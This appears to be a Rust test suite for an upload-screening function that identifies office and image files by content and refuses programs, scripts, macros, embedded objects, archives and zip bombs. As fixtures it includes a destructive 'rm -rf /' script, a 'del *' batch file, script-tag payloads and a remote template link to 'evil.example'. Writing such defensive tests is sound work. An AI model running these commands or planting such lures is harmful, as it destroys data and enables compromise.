use office::{FileKind, Refusal, sniff};

use crate::made::{docx, docx_with, odt, p, pdf, pptx, types, xlsx, zip};

const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0";
const CFB: [u8; 8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

fn compound(stream: &str) -> Vec<u8> {
    let mut bytes = CFB.to_vec();
    bytes.resize(1_024, 0);
    bytes.extend(stream.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.resize(2_048, 0);
    bytes
}

#[test]
fn each_kind_is_known_by_its_content() {
    for (bytes, name, kind) in [
        (docx(&p("", "Hello")), "plan.docx", FileKind::Docx),
        (pptx(&[]), "talk.PPTX", FileKind::Pptx),
        (xlsx(""), "costs.xlsx", FileKind::Xlsx),
        (odt(""), "plan.odt", FileKind::Odt),
        (pdf(&["BT ET"]), "handout.pdf", FileKind::Pdf),
        (b"Hello".to_vec(), "note.txt", FileKind::Text),
        (b"# Hello".to_vec(), "note.md", FileKind::Markdown),
        (b"a,b\n1,2".to_vec(), "table.csv", FileKind::Csv),
        (b"caf\xe9, \x9310\x94".to_vec(), "from-excel.csv", FileKind::Csv),
        (PNG.to_vec(), "photo.png", FileKind::Png),
        (b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec(), "photo.jpeg", FileKind::Jpeg),
        (b"GIF89a\x01\0\x01\0".to_vec(), "moving.gif", FileKind::Gif),
        (b"RIFF\x10\0\0\0WEBPVP8 ".to_vec(), "photo.webp", FileKind::Webp),
    ] {
        assert_eq!(sniff(&bytes, name), Ok(kind), "{name}");
        assert_eq!(sniff(&bytes, "no ending").map(FileKind::family_name), Ok(kind.family_name()), "{name} without its ending");
    }
}

#[test]
fn a_name_that_is_only_careless_gets_the_right_ending() {
    assert_eq!(sniff(PNG, "photo.jpg"), Ok(FileKind::Png));
    assert_eq!(FileKind::Png.name_for("photo.jpg"), "photo.png");
    assert_eq!(FileKind::Docx.name_for("Plan v1.2"), "Plan v1.2.docx");
    assert_eq!(FileKind::Docx.name_for("plan.doc"), "plan.docx");
    assert_eq!(FileKind::Jpeg.name_for("photo.JPEG"), "photo.JPEG");
    assert_eq!(FileKind::Text.name_for("notes"), "notes.txt");
}

#[test]
fn a_name_that_contradicts_the_content_is_refused() {
    let refusal = sniff(&docx(&p("", "Hello")), "handout.pdf").unwrap_err();
    assert_eq!(refusal, Refusal::Contradiction { ending: "pdf".to_owned(), really: FileKind::Docx });
    assert!(refusal.to_string().contains("ends in .pdf, but inside it is a Word document"), "{refusal}");
    assert!(matches!(sniff(PNG, "plan.docx"), Err(Refusal::Contradiction { .. })));
    assert!(matches!(sniff(b"name,cost\n", "costs.xls"), Err(Refusal::Contradiction { .. })));
    assert!(matches!(sniff(&pdf(&["BT ET"]), "book.epub"), Err(Refusal::Contradiction { .. })));
    assert_eq!(sniff(b"key = 1", "settings.ini"), Err(Refusal::Unknown));
}

#[test]
fn programs_and_scripts_are_refused_whatever_their_name() {
    let mut windows = b"MZ\x90\0\x03\0\0\0".to_vec();
    windows.resize(200, 0);
    for (bytes, name) in [
        (windows.as_slice(), "holiday.docx"),
        (b"\x7fELF\x02\x01\x01\0", "tool.pdf"),
        (b"\xcf\xfa\xed\xfe\x07\0\0\x01", "tool"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34", "Tool.class"),
        (b"#!/bin/sh\nrm -rf /", "notes.txt"),
        (b"@echo off\r\ndel *", "notes.txt"),
        (b"harmless words", "letter.vbs"),
        (b"harmless words", "letter.pdf.exe"),
        (b"L\0\0\0\x01\x14\x02\0\0\0", "shortcut.txt"),
    ] {
        assert_eq!(sniff(bytes, name), Err(Refusal::Program), "{name}");
    }
    assert_eq!(sniff(b"MZ is how this word game begins, with nothing else in it.", "game.txt"), Ok(FileKind::Text));
    assert_eq!(sniff(&zip(&[("META-INF/MANIFEST.MF", b"Main-Class: x")]), "x.zip"), Err(Refusal::Program));
}

#[test]
fn pages_with_scripts_are_refused() {
    for (bytes, name) in [
        (&b"<!DOCTYPE html><script>alert(1)</script>"[..], "page.html"),
        (b"\xef\xbb\xbf\n <!-- hello --><HTML>", "page.txt"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "drawing.svg"),
        (b"<?xml version='1.0'?><svg/>", "drawing.png"),
        (b"MIME-Version: 1.0\nContent-Type: multipart/related", "page.txt"),
    ] {
        assert_eq!(sniff(bytes, name), Err(Refusal::WebPage), "{name}");
    }
}

#[test]
fn macros_are_refused_declared_or_hidden() {
    let declared = types("application/vnd.ms-word.document.macroEnabled.main+xml");
    for (bytes, name) in [
        (zip(&[("[Content_Types].xml", declared.as_bytes())]), "plan.docm"),
        (zip(&[("[Content_Types].xml", declared.as_bytes())]), "plan.docx"),
        (docx_with("", &[("word/vbaProject.bin", b"x")]), "plan.docx"),
        (docx_with("", &[("xl/macrosheets/sheet1.xml", b"<x/>")]), "plan.docx"),
        (docx_with("", &[("word/embeddings/book.xlsm", b"x")]), "plan.docx"),
    ] {
        assert_eq!(sniff(&bytes, name), Err(Refusal::Macros), "{name}");
    }
}

#[test]
fn what_can_run_inside_a_document_is_refused() {
    let packaged = compound("\u{1}Ole10Native");
    let remote = br#"<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    for more in [
        ("word/embeddings/oleObject1.bin", packaged.as_slice()),
        ("word/activeX/activeX1.xml", b"<x/>"),
        ("word/_rels/settings.xml.rels", remote),
    ] {
        let refusal = sniff(&docx_with("", &[more]), "plan.docx").unwrap_err();
        assert!(matches!(refusal, Refusal::Active { .. }), "{} gave {refusal:?}", more.0);
    }
    let program = docx_with("", &[("word/media/image1.png", b"MZ\x90\0\x03\0\0\0\0")]);
    assert_eq!(sniff(&program, "plan.docx"), Err(Refusal::Program));
    assert_eq!(sniff(&docx_with("", &[("word/embeddings/run.exe", b"x")]), "plan.docx"), Err(Refusal::Program));
    // A council's own template on its own server, a chart's workbook and an equation are everyday things.
    let local = br#"<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="file:///S:/letters.dotx" TargetMode="External"/></Relationships>"#;
    let equation = compound("Equation Native");
    let everyday = docx_with(
        "",
        &[
            ("word/_rels/settings.xml.rels", local),
            ("word/embeddings/oleObject1.bin", &equation),
            ("word/embeddings/book.xlsx", b"PK"),
        ],
    );
    assert_eq!(sniff(&everyday, "plan.docx"), Ok(FileKind::Docx));
}

#[test]
fn archives_old_formats_and_protected_files_are_refused_with_what_to_do() {
    assert_eq!(sniff(&zip(&[("a.txt", b"x")]), "files.zip"), Err(Refusal::Archive));
    assert_eq!(sniff(b"\x1f\x8b\x08\0\0\0\0\0", "files.tgz"), Err(Refusal::Archive));
    assert_eq!(sniff(b"Rar!\x1a\x07\0x", "files.rar"), Err(Refusal::Archive));
    let old = sniff(&compound("WordDocument"), "plan.doc").unwrap_err();
    assert!(old.to_string().contains("save it as .docx first"), "{old}");
    assert_eq!(sniff(&compound("Workbook"), "x"), Err(Refusal::OldOffice { save_as: FileKind::Xlsx }));
    assert_eq!(sniff(&compound("PowerPoint Document"), "x"), Err(Refusal::OldOffice { save_as: FileKind::Pptx }));
    assert_eq!(sniff(&compound("EncryptedPackage"), "plan.docx"), Err(Refusal::Protected));
    let locked = [&pdf(&["BT ET"])[..], b"\ntrailer << /Encrypt 9 0 R >>"].concat();
    assert_eq!(sniff(&locked, "plan.pdf"), Err(Refusal::Protected));
    assert!(sniff(b"{\\rtf1 hello}", "plan.rtf").unwrap_err().to_string().contains("save it as .docx"));
    assert_eq!(sniff(b"", "plan.docx"), Err(Refusal::Empty));
    assert_eq!(sniff(b"\0\x01\x02\x03 nonsense", "plan.bin2"), Err(Refusal::Unknown));
    assert_eq!(sniff(b"PK\x03\x04 cut off", "plan.docx"), Err(Refusal::Damaged));
}

/// A number of zeros that packs a thousand to one, and a list of contents without end.
#[test]
fn what_unpacks_to_far_too_much_is_refused_unopened() {
    let zeros = vec![0_u8; 32 << 20];
    assert_eq!(sniff(&docx_with("", &[("word/media/image1.bmp", &zeros)]), "plan.docx"), Err(Refusal::Bomb));
    let names: Vec<String> = (0..10_001).map(|number| format!("word/{number}.xml")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    assert_eq!(sniff(&docx_with("", &many), "plan.docx"), Err(Refusal::Bomb));
}
